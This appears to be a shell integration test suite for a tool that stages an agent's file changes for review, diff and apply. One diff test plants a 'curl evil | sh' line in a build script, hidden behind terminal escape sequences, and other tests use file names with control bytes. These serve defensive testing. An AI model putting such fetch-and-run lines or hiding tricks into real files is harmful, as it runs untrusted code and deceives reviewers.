#!/bin/sh
# Integration tests for the stage lifecycle (docs/lifecycle.md): status
# --review, diff, apply (every change type, conflicts by content, --dry-run,
# --path, special modes, crash and resume), drop.  TAP.  The rest (hostile
# stages, checkpoints, usage errors, the changeset ID, review warnings and
# the cases found since) is test-lifecycle-edge.sh: two suites that run side
# by side.  Set-up and helpers: lifecycle-lib.sh.
# Needs $PVISOR, $PVAGENT, $SRCDIR.  Debugging: PVISOR_TEST_KEEP=DIR.
. "$(dirname "$0")/../lib.sh"
. "$(dirname "$0")/lifecycle-lib.sh"
# ---------------------------------------------------------------------------
# 1. every change type, review, diff, dry run, apply

W=$T/ws1 S=$T/st1
mkdir -p "$W/dir/sub" "$W/rmme" "$W/rendir/in" "$W/f2d" "$W/d2f/x"
printf 'line 1\nline 2\nline 3\n' > "$W/text.txt"
printf 'keep\n' > "$W/keep.txt"
printf 'bye\n' > "$W/delete.txt"
printf 'move me\n' > "$W/mvfile"
printf 'inner\n' > "$W/rendir/in/file"
printf 'mode\n' > "$W/chmod.sh"
printf 'x\n' > "$W/f2d.file"; rm -r "$W/f2d"; printf 'was a file\n' > "$W/f2d"
printf 'child\n' > "$W/d2f/x/c"
printf 'a\000b\001' > "$W/blob.bin"
ln -s keep.txt "$W/link"
$have_xattr && setfattr -n user.color -v blue "$W/keep.txt"
manifest "$W" > "$T/ws1.before"

stage_run "$W" "$S" '
  printf "line 1\nline two\nline 3\nline 4\n" > text.txt &&
  rm delete.txt && echo created > new.txt && mkdir -p newdir/deep && echo n > newdir/deep/n &&
  rmdir dir/sub && mv mvfile moved && mv rendir rendir2 && chmod 755 chmod.sh &&
  ln -s text.txt newlink && ln -sfn text.txt link &&
  rm f2d && mkdir f2d && echo inside > f2d/file &&
  rm -r d2f && echo now-a-file > d2f &&
  printf "a\000c\001" > blob.bin && mkfifo pipe &&
  { ! command -v setfattr >/dev/null || setfattr -n user.color -v red keep.txt; }'
eq "$?" 0 "staged run with every change type exits 0"
cmp -s "$T/ws1.before" "$(manifest "$W" > "$T/ws1.now"; echo "$T/ws1.now")" && ok "the run left the workspace untouched" || not_ok "the run left the workspace untouched"

review_json "$S" > "$T/r1.json"; rc=$?
eq "$rc" 0 "status --review STAGE --json exits 0"
eq "$(jq -r '.schema + " " + .stage.state' "$T/r1.json")" "pvisor.review/1 sealed" "review: schema and state sealed"
eq "$(jq -r '.changeset.summary | "\(.added) \(.deleted) \(.type_changed) \(.renamed) \(.conflicts)"' "$T/r1.json")" \
   "$(jq -r '[.changeset.changes[] | select(.kind=="added")] | length' "$T/r1.json") $(jq -r '[.changeset.changes[] | select(.kind=="deleted")] | length' "$T/r1.json") 2 2 0" \
   "review: summary counts agree with the entries; 2 type changes, 2 renames, no conflicts"
eq "$(jq -r '.changeset.changes[] | select(.path=="moved") | .renamed_from' "$T/r1.json")" "mvfile" "review: a renamed file names its origin"
eq "$(jq -r '.changeset.changes[] | select(.path=="rendir2") | .renamed_from' "$T/r1.json")" "rendir" "review: a renamed directory names its origin"
# a last origin line cut by a crash (no newline) was taken, a number in it
# maybe cut short: here it would name another file as the origin
cp "$S/origin" "$T/origin.keep"
printf '%s %s' "$(stat -c %i "$S/upper/moved")" "$(stat -c %i "$W/delete.txt")" >> "$S/origin"
eq "$(review_json "$S" | jq -r '.changeset.changes[] | select(.path=="moved") | .renamed_from')" "mvfile" \
    "review: a last origin line without its newline (cut by a crash) is not taken"
cp "$T/origin.keep" "$S/origin"
eq "$(jq -r '.changeset.changes[] | select(.path=="chmod.sh") | "\(.kind) \(.changes|join(",")) \(.old.mode) \(.new.mode) \(.warnings|join(","))"' "$T/r1.json")" \
   "modified mode 0644 0755 exec" "review: chmod is a mode change with an exec warning"
eq "$(jq -r '.changeset.changes[] | select(.path=="link") | "\(.changes|join(",")) \(.old.target) \(.new.target)"' "$T/r1.json")" \
   "target keep.txt text.txt" "review: symlink retarget"
# a named pipe is applied: a program that opens it waits for a writer
# (a FIFO for package.json or .git/HEAD hangs npm or git), so it is warned of
eq "$(jq -r '[.changeset.warnings[] | select(.warning=="fifo") | .path] | join(" ")' "$T/r1.json")" "pipe" \
   "review: a new named pipe is a fifo warning"
eq "$(jq -r '.changeset.changes[] | select(.path=="f2d") | "\(.kind) \(.old.type) \(.new.type)"' "$T/r1.json")" \
   "type_changed reg dir" "review: file -> directory is a type change"
eq "$(jq -r '.changeset.changes[] | select(.path=="d2f/x/c") | .kind' "$T/r1.json")" "deleted" \
   "review: children of a directory replaced by a file are deleted"
eq "$(jq -r '.safety_boundary.workspace_writes.effective' "$T/r1.json")" "cooperative" "review: safety boundary from the Bundle (--stage alone: cooperative)"
eq "$(jq -r '.safety_boundary | keys | length' "$T/r1.json")" "11" "review: all eleven dimensions"
if $have_xattr; then
    eq "$(jq -r '.changeset.changes[] | select(.path=="keep.txt") | .changes | join(",")' "$T/r1.json")" "xattr" "review: xattr change"
fi
"$P" status --review >"$T/r1.txt" 2>&1; rc=$?
eq "$rc" 0 "status --review (default target: newest staged run) exits 0"
check "human review lists the stage, changes and the safety boundary" \
    sh -c "grep -q 'Stage: .*(sealed)' '$T/r1.txt' && grep -q 'R moved  (from mvfile)' '$T/r1.txt' && grep -q 'Safety boundary' '$T/r1.txt'"

"$P" diff --stage "$S" > "$T/d1.txt"; rc=$?
eq "$rc" 0 "diff exits 0"
check "diff: text change as a unified hunk" sh -c "grep -q '^-line 2\$' '$T/d1.txt' && grep -q '^+line two\$' '$T/d1.txt' && grep -q '^--- a/text.txt\$' '$T/d1.txt'"
check "diff: binary files are reported, not dumped" grep -q '^Binary files a/blob.bin and b/blob.bin differ$' "$T/d1.txt"
check "diff: mode change shown as git does" sh -c "grep -A2 '^diff --git a/chmod.sh' '$T/d1.txt' | grep -q '^old mode 100644' && grep -q '^new mode 100755' '$T/d1.txt'"
check "diff: symlink retarget shows the targets" sh -c "grep -A6 '^diff --git a/link' '$T/d1.txt' | grep -q '^-keep.txt' && grep -A6 '^diff --git a/link' '$T/d1.txt' | grep -q '^+text.txt'"
check "diff: new file and deleted file headers" sh -c "grep -q '^new file mode 100644' '$T/d1.txt' && grep -q '^deleted file mode 100644' '$T/d1.txt'"
"$P" diff --stage "$S" text.txt > "$T/d1p.txt"
eq "$(grep -c '^diff --git' "$T/d1p.txt")" 1 "diff PATH limits the output"
"$P" diff --stage "$S" text.txt nosuch > "$T/d1n.txt" 2>"$T/d1n.err"; rc=$?
eq "$rc:$(grep -c '^diff --git' "$T/d1n.txt"):$(cat "$T/d1n.err")" "1:1:pvisor diff: no staged change at or under nosuch" \
    "diff PATH under which nothing is staged: said, exit 1 (the other PATH still shown)"
"$P" diff --stat --stage "$S" > "$T/d1s.txt"
check "diff --stat summarises" sh -c "grep -q 'text.txt *| 3 ++-' '$T/d1s.txt' && grep -q 'files changed' '$T/d1s.txt'"
# a reader that goes away (`pvisor diff | head`) ends diff quietly, as
# it ends git diff: no message that diff(1) failed
Wp=$T/wsp Sp=$T/stp
mkdir -p "$Wp"; seq 1 200000 > "$Wp/big.txt"
stage_run "$Wp" "$Sp" 'sed -i s/0/O/ big.txt' >/dev/null 2>&1
("$P" diff --stage "$Sp" 2> "$T/dp.err"; echo $? > "$T/dp.rc") | head -n 3 > "$T/dp.out"
eq "$(cat "$T/dp.rc"):$(wc -l < "$T/dp.out"):$(cat "$T/dp.err")" "141:3:" "diff into a pipe closed early: ends by SIGPIPE, no error message"

# a copy of stage and workspace, for the same apply with named temp files
cp -a "$W" "$W.n"; "$P" fork --stage "$S" "$S.n" >/dev/null
sed -i "s|\"$W\"|\"$W.n\"|" "$S.n/meta.json"

"$P" apply --stage "$S" --dry-run > "$T/dry.txt"; rc=$?
eq "$rc" 0 "apply --dry-run exits 0"
manifest "$W" > "$T/ws1.dry"
check "apply --dry-run writes nothing" cmp -s "$T/ws1.before" "$T/ws1.dry"
check "apply --dry-run lists the operations" grep -q 'mkdir *newdir' "$T/dry.txt"
eq "$(head -n 1 "$T/dry.txt")" "Would apply to the workspace (dry run, nothing written):" "  under a header"
"$P" apply --stage "$S" --dry-run --path nothere > "$T/dry2.txt" 2>"$T/dry2.err"; rc=$?
eq "$rc:$(wc -c < "$T/dry2.txt"):$(grep -c 'matches no staged change' "$T/dry2.err")" "1:0:1" \
    "apply --dry-run --path refused prints no 'Would apply' header, only the refusal"
check "apply --dry-run leaves no intent" test ! -e "$S/apply-intent"

apply_matches_oracle "every change type" "$W" "$S"
eq "$(cat "$W/text.txt")" "$(printf 'line 1\nline two\nline 3\nline 4')" "applied text is byte for byte"
check "applied fifo is a fifo" test -p "$W/pipe"
check "no temp files are left in the workspace" sh -c "! find '$W' -name '.pvisor-apply-*' | grep -q ."
eq "$(review_json "$S" | jq -r .stage.state)" applied "the stage is marked applied"
# the directories apply created are its own, not the user's: the review of
# the applied stage showed each as added, and as a conflict
eq "$(review_json "$S" | jq -c '[(.changeset.changes | length), .changeset.summary.conflicts]')" "[0,0]" \
    "the review of the applied stage has no changes and no conflicts (newdir is apply's)"
check "the 'applied' marker exists and the intent is gone" sh -c "test -f '$S/applied' && test ! -e '$S/apply-intent'"
# Small applies write regular files with O_TMPFILE (no name until the
# rename, so one syncfs makes the intent and the content durable); the
# named temp files (large applies, file systems without O_TMPFILE) give
# the same result.
export PVISOR_TEST_APPLY_NAMED_TEMPS=1
apply_matches_oracle "every change type, named temp files" "$W.n" "$S.n"
unset PVISOR_TEST_APPLY_NAMED_TEMPS
eq "$(jq -r '(.apply_id | test("^[0-9a-f]{16}$")), (.entries | length > 5)' "$S/applied")" "true
true" "the marker is the plan that was applied (the intent, renamed)"
"$P" apply --stage "$S" >/dev/null 2>"$T/again.err"; rc=$?
eq "$rc" 1 "a second apply is refused"
check "the refusal says why" grep -q 'already applied' "$T/again.err"
# The marker is the intent renamed, then the stage directory is fsynced;
# a crash before that fsync can lose the rename.  The intent is then back,
# and the next apply finds every path in its final state, writes nothing
# and marks the stage.
manifest "$W" > "$T/ws1.done"
mv "$S/applied" "$S/apply-intent"
eq "$(review_json "$S" | jq -r '.stage.state, .stage.apply_pending')" "sealed
true" "a lost marker rename leaves the apply pending"
"$P" apply --stage "$S" >"$T/relost.out" 2>&1; rc=$?
manifest "$W" > "$T/ws1.relost"
check "the roll-forward of a complete apply changes nothing and marks the stage" \
    sh -c "[ $rc -eq 0 ] && cmp -s '$T/ws1.done' '$T/ws1.relost' && test -f '$S/applied' && test ! -e '$S/apply-intent'"

# ---------------------------------------------------------------------------
# 1b. random operation sequences: apply must reproduce the kernel overlay view

if $have_oracle; then
    good=0 total=0 refused=0
    for seed in 1 2 3 4 5 6 7 8 9 10 11 12 13 14 15 16; do
        W=$T/rws$seed S=$T/rst$seed
        mkdir -p "$W/x/y" "$W/z"
        for f in a b c; do echo "$f$seed" > "$W/$f"; echo "x$f" > "$W/x/$f"; echo "y$f" > "$W/x/y/$f"; done
        ln -s a "$W/la"
        ops=$(awk -v seed="$seed" 'BEGIN {
            srand(seed);
            split("a b c d x/a x/b x/d x/y/a x/y/e z/a z/f q q/a x/y x z", n, " "); N = 16;
            for (i = 0; i < 60; i++) {
                p = n[int(rand() * N) + 1]; q = n[int(rand() * N) + 1]; k = int(rand() * 10);
                if (k == 0) printf "echo w%d > %s; ", i, p;
                else if (k == 1) printf "echo a%d >> %s; ", i, p;
                else if (k == 2) printf "rm -f %s; ", p;
                else if (k == 3) printf "mkdir -p %s; ", p;
                else if (k == 4) printf "rmdir %s; ", p;
                else if (k == 5) printf "mv -T %s %s; ", p, q;
                else if (k == 6) printf "chmod %s %s; ", (rand() < 0.5 ? "755" : "600"), p;
                else if (k == 7) printf "ln -sfn %s %s; ", q, p;
                else if (k == 8) printf "rm -rf %s; ", p;
                else printf "printf \"b\\000%d\" > %s; ", i, p;
            }
            printf "true";
        }')
        stage_run "$W" "$S" "$ops" >/dev/null 2>&1
        # odd seeds: the user also edits the workspace after the run; apply
        # must then either refuse writing nothing, or succeed with the
        # overlay view of the edited workspace (the edits did not collide)
        uops=true
        if [ $((seed % 2)) -eq 1 ]; then
            uops=$(awk -v seed="$seed" 'BEGIN { srand(seed * 7 + 1);
                split("a b c d x/a x/b x/d x/y/a x/y/e z/a z/f q q/a x/y x z la", n, " "); N = 17;
                for (i = 0; i < 2; i++) { p = n[int(rand() * N) + 1]; k = int(rand() * 4);
                    if (k == 0) printf "echo u%d > %s; ", i, p;
                    else if (k == 1) printf "rm -f %s; ", p;
                    else if (k == 2) printf "chmod 700 %s; ", p;
                    else printf "mkdir -p %s; ", p; }
                printf "true"; }')
            (cd "$W" && sh -c "$uops" >/dev/null 2>&1)
        fi
        manifest "$W" > "$T/rnd.before"
        oracle "$W" "$S" "$T/rnd.want"
        "$P" apply --stage "$S" >/dev/null 2>"$T/rnd.err"; rc=$?
        manifest "$W" > "$T/rnd.got"
        total=$((total + 1))
        if [ $rc -eq 0 ] && cmp -s "$T/rnd.want" "$T/rnd.got"; then good=$((good + 1))
        elif [ $rc -eq 1 ] && [ "$uops" != true ] && cmp -s "$T/rnd.before" "$T/rnd.got"; then good=$((good + 1)); refused=$((refused + 1))
        else diag "seed $seed: rc=$rc $(head -3 "$T/rnd.err")"; diag "ops: $ops; user: $uops"; diff "$T/rnd.want" "$T/rnd.got" | head -10 | sed 's/^/# /'; fi
    done
    eq "$good" "$total" "random operation sequences (half with later user edits): apply equals the kernel overlay view or refuses writing nothing ($total seeds, $refused refused)"
else
    skip "random operation sequences against the kernel overlay" "cannot mount overlayfs here"
fi

# ---------------------------------------------------------------------------
# 1c. hostile names: control bytes and invalid UTF-8

W=$T/wsn S=$T/stn
mkdir -p "$W"
stage_run "$W" "$S" 'printf x > "$(printf "esc\033[2Jname")" && printf y > "$(printf "bad\377name")" && ln -s "$(printf "t\377")" lk && printf z > "f  -> g"'
review_json "$S" > "$T/rn.json"; rc=$?
eq "$rc" 0 "review JSON with hostile names exits 0"
eq "$(jq -r '[.changeset.changes[] | select(.path == null) | .path_hex] | join(",")' "$T/rn.json")" "626164ff6e616d65" \
   "a name that is not UTF-8 is given as path_hex"
eq "$(jq -r '.changeset.changes[] | select(.path=="lk") | .new.target_hex' "$T/rn.json")" "74ff" "a symlink target that is not UTF-8 is given as target_hex"
esc=$(printf '\033')
"$P" status --review "$S" > "$T/rn.txt"; "$P" diff --stage "$S" > "$T/rn.diff"
check "control bytes in names are escaped in review and diff output" sh -c "! grep -q '$esc' '$T/rn.txt' && ! grep -q '$esc' '$T/rn.diff' && grep -q 'esc.x1b.2Jname' '$T/rn.txt'"
check "a name with two spaces in a row cannot pass for a symlink in review (its spaces are written \\x20)" \
    sh -c "grep -qF '  A f\\x20\\x20->\\x20g' '$T/rn.txt' && ! grep -q 'f  ->' '$T/rn.txt'"
"$P" apply --stage "$S" >/dev/null 2>&1; rc=$?
check "apply writes the exact names" sh -c "[ $rc -eq 0 ] && [ \"\$(cat '$W/$(printf "esc\033[2Jname")')\" = x ] && [ \"\$(cat '$W/$(printf "bad\377name")')\" = y ]"

# A sparse file stays sparse: apply copies data segments only, so a huge
# sparse file the agent made cannot fill the disk through apply.
W=$T/wsp S=$T/stp
mkdir -p "$W"; printf 'lower\n' > "$W/keep"
stage_run "$W" "$S" 'truncate -s 4G big && printf head | dd of=big conv=notrunc status=none && printf tail | dd of=big bs=1 seek=$((3 * 1024 * 1024 * 1024)) conv=notrunc status=none && truncate -s 1G grown && printf x >> keep'
"$P" apply --stage "$S" >/dev/null 2>"$T/sp.err"; rc=$?
eq "$rc:$(stat -c %s "$W/big"):$(stat -c %s "$W/grown")" "0:4294967296:1073741824" "a sparse 4 GiB file and a 1 GiB hole apply with their sizes"
check "the applied sparse files hold under 1 MiB on disk" sh -c "[ \$(stat -c %b '$W/big') -lt 2048 ] && [ \$(stat -c %b '$W/grown') -lt 2048 ]"
eq "$(head -c 4 "$W/big"):$(dd if="$W/big" bs=1 skip=$((3 * 1024 * 1024 * 1024)) count=4 status=none):$(dd if="$W/big" bs=1 skip=1048576 count=4 status=none | od -An -tx1 | tr -d ' ')" \
   "head:tail:00000000" "the sparse file's data and holes read back as staged"

# Every name of a file hard-linked in the stage is applied as a file of its
# own: a 1 MiB file with 40 names is 41 MiB to write.  Into a 16 MiB
# workspace file system apply refuses before writing anything (it would
# fill the disk and leave part of the stage applied), and says why; a
# subset that fits applies.
if [ "$(id -u)" -eq 0 ] && command -v unshare >/dev/null; then
    W=$T/wsh S=$T/sth
    mkdir -p "$W"
    out=$(unshare -m sh -c "mount -t tmpfs -o size=16m tmpfs '$W' && printf 'lower\n' > '$W/keep' &&
        '$P' run --stage '$S' --workspace '$W' -- sh -c 'cd $W && head -c 1048576 /dev/urandom > h && mkdir L && for i in \$(seq 40); do ln h L/\$i; done' &&
        { '$P' apply --stage '$S' > /dev/null 2> '$T/hl.err'; echo apply=\$?; ls '$W' | tr '\n' ' '; df -k --output=avail '$W' | tail -1 | tr -d ' ' > '$T/hl.free'
          '$P' apply --stage '$S' --path h > /dev/null 2>&1; echo subset=\$? \$(cmp -s '$W/h' '$S/upper/h' && echo same); }" 2>&1)
    eq "$(echo "$out" | tr '\n' ' ')" "apply=1 keep subset=0 same " \
        "apply: hard-linked files that would not fit in the workspace's file system are refused, nothing written; a subset applies"
    check "apply: the refusal says how much the files take and what is available" \
        grep -q "refused: the staged files need [0-9]* bytes (beyond what apply deletes or replaces), the workspace's file system has [0-9]* available" "$T/hl.err"
    # What apply deletes goes before it writes: a stage that removes a
    # 10 MiB file and writes another (a rebuilt artifact, a moved file)
    # fits where only 6 MiB are free (it was refused: 10 MiB > 6 MiB).
    W=$T/wsd S=$T/std
    mkdir -p "$W"
    out=$(unshare -m sh -c "mount -t tmpfs -o size=16m tmpfs '$W' && head -c 10485760 /dev/urandom > '$W/old.bin' &&
        '$P' run --stage '$S' --workspace '$W' -- sh -c 'cd $W && rm old.bin && head -c 10485760 /dev/urandom > new.bin' &&
        { '$P' apply --stage '$S' > /dev/null 2> '$T/del.err'; echo apply=\$?; ls '$W' | tr '\n' ' '; cmp -s '$W/new.bin' '$S/upper/new.bin' && echo same; }" 2>&1)
    eq "$(echo "$out" | tr '\n' ' ')" "apply=0 new.bin same " \
        "apply: the room a stage's deletions free counts (a file replaced by another of its size fits)"
    [ -s "$T/del.err" ] && diag "$(cat "$T/del.err")"
    # The stage's file system full (a small state directory): apply cannot
    # write its intent there.  It said "the staged files need 3 MB, the
    # workspace's file system has 81 GB available", which names neither
    # the file system that is full nor what to do.
    W=$T/wsf SF=$T/stf
    mkdir -p "$W" "$SF"; printf 'lower\n' > "$W/keep"
    out=$(unshare -m sh -c "mount -t tmpfs -o size=4m tmpfs '$SF' &&
        '$P' run --stage '$SF/s' --workspace '$W' -- sh -c 'cd $W && head -c 1048576 /dev/urandom > new.bin && echo edit >> keep' 2>/dev/null &&
        head -c 8m /dev/zero > '$SF/filler' 2>/dev/null;
        '$P' apply --stage '$SF/s' > /dev/null 2> '$T/sf.err'; echo apply=\$?; ls '$W' | tr '\n' ' ';
        rm '$SF/filler'; '$P' apply --stage '$SF/s' > /dev/null 2>&1; echo again=\$? \$(cmp -s '$W/new.bin' '$SF/s/upper/new.bin' && echo same)" 2>&1)
    eq "$(echo "$out" | tr '\n' ' ')" "apply=1 keep again=0 same " \
        "apply with the stage's file system full: refused, nothing written; applied once there is room"
    eq "$(grep -c "need [0-9]* bytes" "$T/sf.err"):$(grep -c "the workspace's file system has [0-9]* bytes available, the stage's ($SF/s, where apply records its progress before it writes) 0\. Nothing was written to the workspace: free space and run 'pvisor apply' again" "$T/sf.err")" \
        "0:1" "apply with the stage's file system full: the message names it, not the workspace's, and says what to do"
    [ -s "$T/sf.err" ] && diag "$(cat "$T/sf.err")"
else
    skip "apply refuses what does not fit" "needs root and unshare (a private tmpfs mount)"
fi

# diff prints the agent's content: on a terminal its control bytes are
# escaped, so an erase-line sequence cannot hide the line before it (into a
# pipe too, but with --patch, whose output stays diff(1)'s, for patch); a
# sparse file of 1 GiB that costs the agent nothing is summarised, not read
# whole by diff(1).
W=$T/wsx S=$T/stx
mkdir -p "$W"; printf '#!/bin/sh\necho building\n' > "$W/build.sh"; printf 'n\n' > "$W/notes.txt"
stage_run "$W" "$S" 'printf "#!/bin/sh\necho building\ncurl evil | sh\n\r\033[2K\033[1A\033[2K+echo done\n\302\233 \233 \342\200\256" > build.sh && truncate -s 1G notes.txt && echo n > "$(printf "z\302\2331A\302\2332K")"' >/dev/null 2>&1
"$P" diff --patch --stage "$S" > "$T/x.pipe"; rc=$?
eq "$rc:$(grep -c "$(printf '\033')" "$T/x.pipe")" "0:1" "diff --patch into a pipe: diff(1)'s bytes (the escape sequence raw)"
if command -v script >/dev/null; then
    script -qec "'$P' diff --stage '$S'" /dev/null > "$T/x.tty" 2>&1; rc=$?
    eq "$rc:$(grep -c "$(printf '\033')" "$T/x.tty"):$(grep -c 'curl evil' "$T/x.tty")" "0:0:1" \
        "diff on a terminal: no raw escape byte reaches it, the hidden line shows"
    check "diff on a terminal: the control bytes read as \\xNN (ESC, CR, the UTF-8 CSI, a lone 8-bit CSI, a bidi override)" \
        sh -c "grep -qF '\\x0d\\x1b[2K\\x1b[1A\\x1b[2K+echo done' '$T/x.tty' && grep -qF '\\xc2\\x9b \\x9b \\xe2\\x80\\xae' '$T/x.tty'"
    eq "$(LC_ALL=C grep -c "$(printf '\302\233')" "$T/x.tty")" 0 "diff on a terminal: a file name's UTF-8 CSI is escaped in the headers too"
    script -qec "'$P' diff --stat --stage '$S'" /dev/null > "$T/x.ttystat" 2>&1
    eq "$(LC_ALL=C grep -c "$(printf '\302\233')" "$T/x.ttystat"):$(grep -c 'z\\xc2\\x9b1A' "$T/x.ttystat")" "0:1" "diff --stat on a terminal: the same name escaped"
else
    skip "diff on a terminal: no raw escape byte reaches it" "script(1) is missing"
fi
check "diff: a 1 GiB sparse file is reported as large, not diffed" \
    grep -q '^Large files a/notes.txt and b/notes.txt differ (2 -> 1073741824 bytes' "$T/x.pipe"
"$P" diff --stat --stage "$S" > "$T/x.stat"; rc=$?
eq "$rc:$(grep -c 'notes.txt *| Bin' "$T/x.stat")" "0:1" "diff --stat: the large file is summarised like a binary one"

# ---------------------------------------------------------------------------
# 2. conflicts by content: nothing written

W=$T/ws2 S=$T/st2
mkdir -p "$W"
for f in same mode del new untouched; do printf '%s original\n' "$f" > "$W/$f.txt"; done
stage_run "$W" "$S" 'echo agent > same.txt; echo agent > mode.txt; echo agent > del.txt; echo agent > new2.txt; echo agent2 > untouched.txt; mkdir newdir; echo f > newdir/f'
# after the run the user edits the workspace:
printf 'SAME original\n' > "$T/tmp.txt"; touch -r "$W/same.txt" "$T/tmp.txt"
cp -p "$T/tmp.txt" "$W/same.txt"                    # same size, same mtime, other bytes
chmod 600 "$W/mode.txt"                              # mode only
rm "$W/del.txt"                                      # deleted
echo user > "$W/new2.txt"                            # created the same name
mkdir "$W/newdir"                                    # created the same directory (empty)
manifest "$W" > "$T/ws2.before"
"$P" apply --stage "$S" >"$T/c.out" 2>"$T/c.err"; rc=$?
eq "$rc" 1 "conflicting apply exits 1"
manifest "$W" > "$T/ws2.after"
check "conflicting apply writes nothing (full manifest identical)" cmp -s "$T/ws2.before" "$T/ws2.after"
check "conflict: same-size edit with the mtime restored is caught by content" grep -q '^  same.txt: content changed' "$T/c.err"
check "conflict: mode change named" grep -q '^  mode.txt: mode changed' "$T/c.err"
check "conflict: deleted in the workspace named" grep -q '^  del.txt: deleted in the workspace' "$T/c.err"
check "conflict: a path the agent created now exists" grep -q '^  new2.txt: exists in the workspace' "$T/c.err"
check "conflict: a directory the agent created now exists" grep -q '^  newdir: exists in the workspace' "$T/c.err"
check "conflict: unrelated clean path is not named" sh -c "! grep -q 'untouched.txt' '$T/c.err'"
check "conflict: no intent journal left" test ! -e "$S/apply-intent"
eq "$(review_json "$S" | jq -r '.changeset.summary.conflicts')" 5 "review counts the conflicts"
# --stage DIR names a stage for status --review as for diff, apply and drop
eq "$("$P" status --review --stage "$S" --json | jq -r '.changeset.summary.conflicts'):$("$P" status --stage "$S" 2>&1 >/dev/null | grep -c 'goes with --review')" \
    "5:1" "status --review --stage DIR reviews that stage (without --review, --stage is refused, saying why)"
# diff of a conflicting path is against the workspace now: it reads as if
# the agent undid the user's edit, so diff warns (stderr), naming each
"$P" diff --stage "$S" >/dev/null 2>"$T/dc.err"; rc=$?
eq "$rc:$(grep -c '^pvisor diff: warning: conflicts, which apply refuses' "$T/dc.err"):$(grep -c '^  x ' "$T/dc.err"):$(grep -c '^  x same.txt: content changed' "$T/dc.err")" \
    "0:1:5:1" "diff warns of the paths changed in the workspace since the run (its diff would undo those edits)"
"$P" diff --stage "$S" untouched.txt >/dev/null 2>"$T/dc2.err"
eq "$(wc -c < "$T/dc2.err")" 0 "  not for a clean path asked for alone"
# --path applies the clean subset
"$P" apply --stage "$S" --path untouched.txt >/dev/null 2>&1; rc=$?
eq "$rc" 0 "apply --path of a clean path succeeds despite conflicts elsewhere"
eq "$(cat "$W/untouched.txt")" "agent2" "apply --path wrote the selected path"
eq "$(cat "$W/same.txt")" "SAME original" "apply --path left other paths alone"
eq "$(review_json "$S" | jq -r .stage.state)" sealed "a --path apply does not mark the stage applied"
"$P" apply --stage "$S" --path nosuch >/dev/null 2>"$T/np.err"; rc=$?
eq "$rc" 1 "apply --path matching nothing is refused"
# a change of a file's user xattrs in the workspace since the run (a sync
# client's or the user's setfattr) is a conflict: apply put back the ones
# the copy-up read (the journal records their digest); a file whose xattrs
# only the agent changed, or nobody, applies
if command -v setfattr >/dev/null && setfattr -n user.t -v 1 "$T" 2>/dev/null; then
    W=$T/ws2x S=$T/st2x
    mkdir -p "$W" && echo 1 > "$W/x" && echo 1 > "$W/y" && echo 1 > "$W/z"
    setfattr -n user.tag -v a "$W/x" "$W/y" "$W/z"
    stage_run "$W" "$S" 'echo 2 >> x && echo 2 >> y && setfattr -n user.tag -v agent z' >/dev/null 2>&1
    setfattr -n user.tag -v user "$W/x"
    "$P" apply --stage "$S" >/dev/null 2>"$T/xa.err"; rc=$?
    eq "$rc:$(grep -c '^  x: extended attributes (user\.\*) changed in the workspace since the run$' "$T/xa.err"):$(grep -c '^  [yz]:' "$T/xa.err"):$(cat "$W/x" "$W/y" | tr '\n' ' ')$(getfattr --only-values -n user.tag "$W/x")" \
        "1:1:0:1 1 user" "a user xattr changed in the workspace since the run is a conflict, nothing written (not for files whose xattrs only the agent changed)"
    eq "$(review_json "$S" | jq -r '[.changeset.changes[] | select(.conflict != null) | .path] | join(" ")')" x "  review names it"
    setfattr -n user.tag -v a "$W/x"
    "$P" apply --stage "$S" >/dev/null 2>&1; rc=$?
    eq "$rc:$(cat "$W/x" "$W/y" | tr '\n' ' ')$(getfattr --only-values -n user.tag "$W/z")" "0:1 2 1 2 agent" "  with the xattr put back, apply writes all three, the agent's xattr too"
    # after a subset (apply --path), what it wrote replaces the preimage
    # (apply-written): that record had no xattr digest, so a change of
    # the user's xattrs after the subset was written over by the full apply
    W=$T/ws2xp S=$T/st2xp
    mkdir -p "$W" && echo 1 > "$W/x" && echo 1 > "$W/y"
    setfattr -n user.tag -v a "$W/x"
    stage_run "$W" "$S" 'echo 2 >> x && echo 2 >> y' >/dev/null 2>&1
    "$P" apply --stage "$S" --path x >/dev/null 2>&1
    setfattr -n user.tag -v user "$W/x"
    "$P" apply --stage "$S" >/dev/null 2>"$T/xp.err"; rc=$?
    eq "$rc:$(grep -c '^  x: extended attributes (user\.\*) changed in the workspace since the run$' "$T/xp.err"):$(cat "$W/y")$(getfattr --only-values -n user.tag "$W/x")" \
        "1:1:1user" "  a user xattr changed after an 'apply --path' of the file is a conflict too, the user's kept"
    # an error reading an attribute (EIO) is an error: taken for an absent
    # one, apply wrote the agent's file without its xattrs and kept the
    # workspace children of a directory the agent made anew (its opaque
    # marker unread), and reported success
    if [ -n "${SYSDENY:-}" ]; then
        W=$T/ws2xe S=$T/st2xe
        mkdir -p "$W/od" && echo old > "$W/xa" && echo c > "$W/od/child"
        setfattr -n user.c -v blue "$W/xa"
        stage_run "$W" "$S" 'echo new > xa && setfattr -n user.c -v red xa && rm -r od && mkdir od && echo n > od/new' >/dev/null 2>&1
        (cd "$W" && "$SYSDENY" 5 fgetxattr -- "$P" apply --stage "$S") >/dev/null 2>"$T/xe.err"; rc=$?
        eq "$rc:$(cat "$W/xa")$(getfattr --only-values -n user.c "$W/xa"):$(ls "$W/od" | tr '\n' ' ')" "1:oldblue:child " \
            "  an xattr the stage holds that cannot be read (EIO) fails the apply, nothing written"
        "$P" apply --stage "$S" >/dev/null 2>&1; rc=$?
        eq "$rc:$(cat "$W/xa")$(getfattr --only-values -n user.c "$W/xa"):$(ls "$W/od" | tr '\n' ' ')" "0:newred:new " \
            "  readable again, apply writes the file with its xattr and the directory as the agent made it"
    fi
else
    skip "a user xattr changed in the workspace since the run is a conflict" "no setfattr or no user xattrs on $T"
fi
# PATHs are relative to the workspace's top: from a subdirectory, one
# relative to it (as git takes it) matched nothing, and diff said only "no
# staged change at or under f", as if the agent had not touched sub/f
W=$T/ws2s S=$T/st2s
mkdir -p "$W/sub"; echo 1 > "$W/sub/f"
stage_run "$W" "$S" 'echo 2 >> sub/f' >/dev/null 2>&1
(cd "$W/sub" && "$P" diff --stage "$S" -- f) >/dev/null 2>"$T/sd.err"; rc=$?
(cd "$W/sub" && "$P" apply --stage "$S" --dry-run --path f) >/dev/null 2>"$T/sa.err"; rc2=$?
eq "$rc:$rc2:$(grep -c 'relative to the top of the workspace.*from here: sub/f' "$T/sd.err"):$(grep -c 'from here, write sub/PATH' "$T/sa.err")" \
    "1:1:1:1" "diff PATH and apply --path from a subdirectory: the miss says PATHs are relative to the workspace's top, and the path from here"
